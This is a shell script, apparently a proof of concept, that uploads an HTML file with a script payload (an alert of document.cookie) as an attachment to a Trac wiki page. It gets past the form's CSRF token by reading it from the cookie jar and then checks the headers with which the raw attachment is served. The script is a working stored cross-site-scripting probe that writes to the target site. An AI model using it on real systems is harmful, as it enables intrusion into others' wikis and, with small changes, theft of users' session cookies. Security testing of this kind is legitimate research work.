#!/bin/sh
# Attach a page with a script in it to a wiki page, and say how it is sent to who asks for it.
#   attach.sh URL-OF-TRAC
set -eu
url=$1
name=evil-$$.html
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
echo '<script>alert(document.cookie)</script>' > "$work/$name"

# Trac accepts a form only with the token of its cookie.
curl --silent --show-error --fail --cookie-jar "$work/cookies" --output /dev/null \
  "$url/attachment/wiki/WikiStart/?action=new"
token=$(awk '$6 == "trac_form_token" { print $7 }' "$work/cookies")
curl --silent --show-error --fail --cookie "$work/cookies" --output "$work/answer" \
  --form "__FORM_TOKEN=$token" --form action=new --form realm=wiki --form id=WikiStart \
  --form "attachment=@$work/$name" "$url/attachment/wiki/WikiStart/?action=new"
curl --silent --show-error --fail --output /dev/null --dump-header - "$url/raw-attachment/wiki/WikiStart/$name"
